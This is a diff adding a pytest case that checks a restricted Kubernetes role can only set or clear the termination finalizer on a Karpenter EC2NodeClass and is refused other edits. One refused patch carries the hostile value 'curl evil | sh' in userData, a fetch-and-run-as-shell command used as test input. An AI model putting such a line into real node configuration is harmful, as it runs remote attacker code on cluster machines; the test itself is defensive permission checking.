@@ -443,6 +443,36 @@ def test_a_node_claim_is_created_with_its_finalizer(cluster: Cluster) -> None:
     )
 
 
+def test_of_a_node_class_only_the_finalizer_is_changed(cluster: Cluster) -> None:
+    recorder, path = cluster.member(VIEWERS, RECORDERS), "/apis/karpenter.k8s.aws/v1/ec2nodeclasses"
+    terms = {name: [{"tags": {"a": "b"}}] for name in ("subnetSelectorTerms", "securityGroupSelectorTerms")}
+    spec = {"amiSelectorTerms": [{"alias": "al2023@latest"}], **terms}
+    name = fresh("class")
+    made: Object = {
+        "apiVersion": "karpenter.k8s.aws/v1",
+        "kind": "EC2NodeClass",
+        "metadata": {"name": name},
+        "spec": spec,
+    }
+    one = f"{path}/{name}"
+    cluster.admin.create(path, made)
+
+    def patch(changes: Object) -> Object:
+        return recorder.call("PATCH", one, changes, content_type=MERGE)
+
+    held = patch({"metadata": {"finalizers": ["karpenter.k8s.aws/termination"]}})
+    assert held["metadata"]["finalizers"] == ["karpenter.k8s.aws/termination"]
+    refused("may not change", lambda: patch({"spec": {"userData": "curl evil | sh"}}))
+    refused("may not change", lambda: patch({"metadata": {"labels": {"a": "b"}}}))
+    refused("may change", lambda: patch({"metadata": {"finalizers": ["karpenter.k8s.aws/termination", "a.example/b"]}}))
+    refused("keeps its finalizer until it is deleted", lambda: patch({"metadata": {"finalizers": None}}))
+
+    cluster.admin.call("DELETE", one)
+    patch({"metadata": {"finalizers": None}})
+    with pytest.raises(ApiError, match="not found"):
+        cluster.admin.get(one)
+
+
 def test_events_have_joiners_reporting_controller(cluster: Cluster) -> None:
     teller = cluster.member(VIEWERS, TELLERS)
     teller.call("POST", EVENTS, event("joiner.dev/joiner"))
